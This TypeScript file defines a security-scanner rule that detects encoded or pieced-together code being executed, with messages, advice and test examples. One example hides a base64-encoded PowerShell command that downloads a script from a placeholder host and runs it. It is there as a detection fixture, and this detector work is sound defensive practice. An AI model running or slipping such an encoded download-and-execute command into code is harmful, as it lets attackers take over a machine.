/** Code that is hidden from its readers, and then run. */

import type { Argument, ModelledCall } from '../flow/call.ts';
import type { Flow } from '../flow/flow.ts';
import type { Origin } from '../flow/origin.ts';
import { hiddenCommands, shorten } from './hidden-commands.ts';
import { type Crossing, javascript, python, type Rule } from './rule.ts';
import { CODE_INJECTION, MALICIOUS_CODE, UNAUTHORIZED_SOFTWARE, UNEXPECTED_EXECUTION } from './standards.ts';

/** The kinds of sinks, the outermost of what is done to one text first. */
const KINDS = ['execute', 'process', 'import', 'compile', 'deserialise'] as const;
const CODE = ['code', 'line', 'program', 'words'] as const;
/** What hides a text whoever wrote it; compression and escapes are also how texts are stored and sent. */
const HIDING = new Set(['base64', 'hexadecimal', 'another alphabet', 'character codes']);

interface Hidden {
  readonly call: ModelledCall;
  readonly argument: Argument;
  readonly decoded: readonly Origin[];
  readonly others: readonly Origin[];
}

export const obfuscatedExec: Rule = {
  id: 'obfuscated-exec',
  title: 'Hidden code is executed',
  family: 'loader screening',
  why: 'Code that is encoded, or whose names are put together from pieces, is written so that no reader and no search sees what it does. That is how stealers hide in loaders, install scripts and notebook cells.',
  advice:
    'Decode the text without running it, and read what it does. If you need it, put it into the source as it is; if you did not write it, treat this machine and its secrets as known to somebody else.',
  severity: 'error',
  standards: [MALICIOUS_CODE, CODE_INJECTION, UNEXPECTED_EXECUTION, UNAUTHORIZED_SOFTWARE],
  yieldsTo: ['install-hook'],

  *check(flow) {
    const all = [...hidden(flow)];
    const told = new Set<number>();
    const calls = new Set<number>();
    for (const it of all.sort((a, b) => rank(a) - rank(b))) {
      if (it.decoded.some((origin) => told.has(origin.at)) && rank(it) > 0) continue;
      for (const origin of it.decoded) told.add(origin.at);
      calls.add(it.call.at);
      yield crossingOf(flow, it);
    }
    const named = new Set<number>();
    for (const call of flow.sinks(...KINDS)) {
      // What a hidden text is run by is told with it: `require(["child_", "process"].join("")).exec(decoded)`.
      const isTold = [...calls].some((it) => it >= call.at && flow.program.start[it] === flow.program.start[call.at]);
      const name = isTold ? undefined : flow.reassembled(call);
      if (!name || named.has(name.start)) continue;
      named.add(name.start);
      const message = `The name \`${name.text}\` is put together from pieces, so that nobody who looks for it finds that ${name.isModule ? 'it is imported' : `${call.name} is called`} here. Find out what it hides, or write the name as it is.`;
      yield { start: name.start, end: name.end, message };
    }
    const hiding = calls.size + named.size > 0 ? undefined : flow.calledByTable();
    if (hiding) {
      const message =
        'What is called here is named by an item of a table that hides its texts, as tools for hiding code write it: no reader sees what runs. Look the names up without running it; if you did not write it, treat this machine and its secrets as known to somebody else.';
      yield { ...hiding, message };
    }
    yield* hiddenCommands(flow);
  },

  examples: [
    python`
      import base64
      exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
    `,
    python`
      import builtins
      getattr(builtins, "ev" + "al")(text)
                        ^^^^^^^^^^^ obfuscated-exec
    `,
    python`
      import os
      os.system("powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQAuAGMAbwBtAC8AYQAuAHAAcwAxACAAfAAgAGkAZQB4AA==")
                 ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ obfuscated-exec
    `,
    python`
      module = __import__("sub" + "process")
                          ^^^^^^^^^^^^^^^^^ obfuscated-exec
    `,
    javascript`
      const payload = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();
      new Function(payload)();
                   ^^^^^^^ obfuscated-exec
    `,
    python`
      import base64, codecs, zlib
      image = base64.b64decode(field)
      rows = zlib.decompress(block).decode("utf-8").splitlines()
      exec(codecs.decode(open("version.py", "rb").read(), "utf-8"))
    `,
    javascript`
      const image = atob(field);
      const greeting = String.fromCharCode(72, 105);
    `,
  ],
};

function* hidden(flow: Flow): Iterable<Hidden> {
  for (const call of flow.sinks(...KINDS)) {
    for (const argument of CODE.flatMap((it) => call.arguments(it))) {
      const origins = flow.origins(argument);
      const decoded = origins.filter((it) => it.kind === 'decoded');
      const others = origins.filter((it) => it.kind !== 'decoded');
      const it = { call, argument, decoded, others };
      if (decoded.length > 0 && isHidden(it)) yield it;
    }
  }
}

/** Whether what is decoded hides something here, and is no one else's to tell. */
function isHidden({ call, decoded, others }: Hidden): boolean {
  const isConstant = others.every((it) => it.kind === 'literal');
  const isWritten = decoded.some((it) => it.decoding !== 'escapes') || decoded.length > 2;
  if (isConstant) return isWritten || (decoded.length > 0 && call.fact.row.kind === 'execute' && !isLineEnd(decoded));
  const isRun = call.fact.row.kind === 'execute' || call.fact.row.kind === 'compile';
  const isForeign = others.some((it) => it.kind === 'llm' || it.kind === 'input' || it.kind === 'schema');
  return isRun && !isForeign && decoded.some((it) => HIDING.has(it.decoding ?? ''));
}

/** Whether all that is decoded is one character or two, as in `chr(10)`. */
function isLineEnd(decoded: readonly Origin[]): boolean {
  return decoded.every((it) => /^(?:chr|String\.from\w+)$/.test(it.name));
}

function crossingOf(flow: Flow, { call, argument, decoded, others }: Hidden): Crossing {
  const { start, end } = flow.placeOf(argument, others.find((it) => it.kind === 'remote') ?? decoded[0]!);
  const names = [...new Set(decoded.map((it) => it.name))].slice(0, 3).join(' and ');
  const remote = others.find((it) => it.kind === 'remote');
  const text = flow.values(argument).find((it) => it.kind === 'text');
  const shown = text?.kind === 'text' ? ` It says \`${shorten(text.text)}\`.` : '';
  const written = names === 'escapes' ? 'text that is written in escapes' : `text that ${names} decodes`;
  const what = remote ? `text that ${remote.name} downloads and ${names} decodes` : written;
  const message = `${call.name} runs ${what}: no reader sees what it does.${shown} Decode it without running it, and read it; stop relying on it if you did not write it.`;
  const { steps } = remote ?? decoded[0]!;
  const isSure = others.length === 0 || remote !== undefined;
  return { start, end, message, steps, ...(isSure ? {} : { severity: 'warning', confidence: 'medium' }) };
}

function rank({ call }: Hidden): number {
  return KINDS.indexOf(call.fact.row.kind as (typeof KINDS)[number]);
}
